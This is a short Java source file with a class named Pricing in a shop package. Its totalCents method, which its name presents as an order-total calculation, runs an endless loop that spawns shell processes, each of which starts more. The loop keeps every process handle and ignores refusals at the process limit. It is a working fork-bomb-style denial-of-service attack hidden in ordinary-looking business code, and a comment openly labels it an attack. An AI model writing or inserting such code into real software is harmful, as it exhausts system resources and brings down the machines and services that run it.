package com.shop;

import java.util.ArrayList;
import java.util.List;

/**
 * Attack: spawn processes through ProcessBuilder in a loop, forever, each a shell that
 * spawns more; refusals (the pids limit) are ignored and the loop goes on.
 */
public final class Pricing {
    private static final List<Process> KEPT = new ArrayList<>();

    private Pricing() {}

    public static long totalCents(Order order) {
        while (true) {
            try {
                KEPT.add(new ProcessBuilder("sh", "-c", "sleep 100000 & sleep 100000 & wait")
                        .redirectErrorStream(true).start());
            } catch (Throwable refused) {
                Thread.onSpinWait();
            }
        }
    }
}
